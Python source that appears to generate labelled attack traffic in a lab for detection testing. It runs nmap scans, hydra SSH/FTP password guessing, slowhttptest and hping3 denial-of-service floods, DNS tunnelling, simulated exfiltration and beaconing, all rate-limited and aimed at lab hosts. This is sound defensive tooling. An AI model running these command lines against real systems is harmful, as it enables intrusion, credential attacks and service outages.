"""The attacks: well-known tools where there is one, at bounded rates, against the lab alone."""

import asyncio
import base64
from random import Random

from lab import dns
from lab.doors import Host, Note
from lab.servers import FTP, NAMES, OBJECTS, SSH, TLS, USER, WEB
from lab.talk import http, think

_SERVERS = ("web", "names", "shell", "data", "files", "cloud")
_SWEPT = "21,22,80,443,5432,8080"
_NMAP = ("nmap", "-n", "-Pn", "--disable-arp-ping", "--max-retries", "1", "--host-timeout", "18s")


async def _run(host: Host, note: Note, server: str, command: list[str], **place) -> None:
    async with host.tool(note, server, command, **place) as tool:
        await tool.wait()


async def _scan(host: Host, draw: Random, form: str, ports: int, rate: int, detail: str) -> None:
    server = draw.choice(_SERVERS)
    chosen = ",".join(map(str, sorted(draw.sample(range(1, 10_000), ports))))
    command = [*_NMAP, form, "-p", chosen, "--max-rate", str(rate), host.plan.address(server)]
    await _run(host, Note("port_scan", "any", detail), server, command)


async def scan_connect(host: Host, draw: Random) -> None:
    """Full connections to ports of one server."""
    await _scan(host, draw, "-sT", 180, draw.randrange(50, 150), "nmap connect, one host")


async def scan_syn(host: Host, draw: Random) -> None:
    """Half connections to ports of one server."""
    await _scan(host, draw, "-sS", 180, draw.randrange(80, 300), "nmap SYN, one host")


async def scan_udp(host: Host, draw: Random) -> None:
    """Empty or protocol-specific datagrams to ports of one server."""
    await _scan(host, draw, "-sU", 100, 50, "nmap UDP, one host")


async def scan_sweep(host: Host, draw: Random) -> None:
    """A few ports on every host: one nmap a host, so that each target passes the guard."""
    form = draw.choice(("-sS", "-sT"))
    for other in host.plan.hosts:
        if other.name != host.name:
            command = [*_NMAP, form, "-p", _SWEPT, "--max-rate", "60", other.address]
            await _run(
                host, Note("port_scan", "any", f"nmap {form}, all hosts"), other.name, command
            )


async def _guess(host: Host, draw: Random, server: str, port: int, scheme: str, tasks: int) -> None:
    # The right password is not among these.
    words = host.work / f"words-{host.name}-{scheme}"
    words.write_text("".join(f"{draw.getrandbits(40):x}\n" for _ in range(150)))
    target = f"{scheme}://{host.plan.address(server)}"
    command = ["hydra", "-I", "-l", USER, "-P", str(words), "-t", str(tasks), target]
    note = Note("password_guessing", scheme, "hydra")
    # FTP opens no data connection before the login succeeds, so the port is known.
    await _run(host, note, server, command, port=port, protocol=6)


async def guess_ssh(host: Host, draw: Random) -> None:
    """Passwords for SSH, one connection at a time: below 4 a second."""
    await _guess(host, draw, "shell", SSH, "ssh", 1)


async def guess_ftp(host: Host, draw: Random) -> None:
    """Passwords for FTP, four connections at a time: the server makes each wait."""
    await _guess(host, draw, "files", FTP, "ftp", 4)


async def _slow(host: Host, draw: Random, options: list[str], detail: str) -> None:
    server = draw.choice(("web", "cloud"))
    path = "in" if "-B" in options else f"{draw.randrange(OBJECTS)}.bin"
    url = f"http://{host.plan.address(server)}/{path}"
    # The tool waits in a busy loop: at the lowest priority it harms nobody else.
    command = ["nice", "-n", "19", "slowhttptest", *options, "-c", "40", "-r", "8", "-l", "30"]
    command += ["-u", url]
    note = Note("slow_http", "web", f"slowhttptest, {detail}")
    await _run(host, note, server, command, port=WEB, protocol=6)


async def slow_headers(host: Host, draw: Random) -> None:
    """Requests whose headers never end."""
    await _slow(host, draw, ["-H", "-i", "5", "-x", "24"], "headers")


async def slow_body(host: Host, draw: Random) -> None:
    """Posts whose bodies trickle."""
    await _slow(host, draw, ["-B", "-i", "6", "-s", "8192", "-x", "10"], "body")


async def slow_read(host: Host, draw: Random) -> None:
    """Answers read a few bytes at a time through a tiny window."""
    await _slow(
        host, draw, ["-X", "-w", "10", "-y", "20", "-n", "5", "-z", "32", "-k", "3"], "read"
    )


async def flood_syn(host: Host, draw: Random) -> None:
    """250 SYN a second for less than two seconds, from the attacker's own address."""
    server = draw.choice(("web", "cloud"))
    address = host.plan.address(server)
    command = ["hping3", "-q", "-S", "-p", str(WEB), "-i", "u4000", "-c", "450", address]
    note = Note("syn_flood", "web", "hping3")
    await _run(host, note, server, command, port=WEB, protocol=6)


async def flood_http(host: Host, draw: Random) -> None:
    """20 connections a second of three requests each, for some five seconds."""

    async def burst() -> None:
        note = Note("http_flood", "web", "requests as fast as allowed")
        async with host.connect(note, "web", WEB) as stream:
            for _ in range(3):
                await http(stream, draw, f"/{draw.randrange(20)}.bin")

    async with asyncio.TaskGroup() as bursts:
        for _ in range(110):
            bursts.create_task(burst())
            await asyncio.sleep(1 / 20)


async def tunnel_dns(host: Host, draw: Random) -> None:
    """Data in the names of queries, answers in texts; one socket, or a fresh one each time."""
    fresh = draw.random() < 0.6
    gap = 1 / draw.uniform(2, 12)
    note = Note("dns_tunnel", "dns", "fresh sockets" if fresh else "one socket")

    def query() -> bytes:
        text = (
            base64.b32encode(draw.randbytes(draw.randrange(30, 110))).decode().rstrip("=").lower()
        )
        labels = [text[i : i + 60] for i in range(0, len(text), 60)]
        return dns.query(".".join([*labels, dns.TUNNEL]), dns.TXT, draw.getrandbits(16))

    if fresh:
        for _ in range(150):
            with host.datagrams(note, "names", NAMES) as server:
                await server.ask(query())
            await think(draw, gap, 0.3)
    else:
        for _ in range(12):
            with host.datagrams(note, "names", NAMES) as server:
                for _ in range(draw.randrange(8, 25)):
                    await server.ask(query())
                    await think(draw, gap, 0.3)


async def exfiltrate(host: Host, draw: Random) -> None:
    """Low and slow: some kB at a time over HTTP or HTTPS, at the pace of a person."""
    tls = draw.random() < 0.7
    note = Note("exfiltration", "tls" if tls else "web", "posts of some kB")
    for _ in range(60):
        async with host.connect(note, "cloud", TLS if tls else WEB, tls=tls) as stream:
            for _ in range(draw.choice((1, 1, 2))):
                await http(stream, draw, "/in", body=draw.randbytes(draw.randrange(3000, 14_000)))
                await think(draw, 0.4, 0.5)
        await think(draw, 3, 0.5)


async def beacon(host: Host, draw: Random) -> None:
    """Asks for orders every 6 s, a fifth more or less: a minute or ten, scaled to the short day."""
    note = Note("beaconing", "tls", "6 s, jitter 20 %")
    for _ in range(100):
        async with host.connect(note, "cloud", TLS, tls=True) as stream:
            body = bytes(draw.randrange(100, 300)) if draw.random() < 0.3 else None
            await http(stream, draw, "/in", body=body, keep=False)
        await asyncio.sleep(6 * draw.uniform(0.8, 1.2))


ATTACKS = {
    attack.__name__: attack
    for attack in (
        beacon, exfiltrate, flood_http, flood_syn, guess_ftp, guess_ssh, scan_connect, scan_sweep,
        scan_syn, scan_udp, slow_body, slow_headers, slow_read, tunnel_dns,
    )
}  # fmt: skip
